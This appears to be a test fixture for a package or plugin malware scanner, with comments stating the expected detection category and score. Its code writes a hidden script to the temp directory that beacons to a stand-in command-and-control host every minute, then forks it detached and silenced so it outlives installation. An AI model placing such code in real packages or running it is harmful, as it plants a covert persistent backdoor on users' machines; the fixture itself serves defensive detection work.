// expect: category=child-process min=95 context=plugin,package
// why: a detached, silenced fork of a script in tmp keeps running after install finishes.
const { fork } = require('child_process');
const fs = require('fs');
const path = require('path');
const os = require('os');

const agent = path.join(os.tmpdir(), '.agent.js');
fs.writeFileSync(agent, "setInterval(() => require('https').get('https://c2.example/beat'), 6e4);");

fork(agent, [], { detached: true, stdio: 'ignore' }).unref();
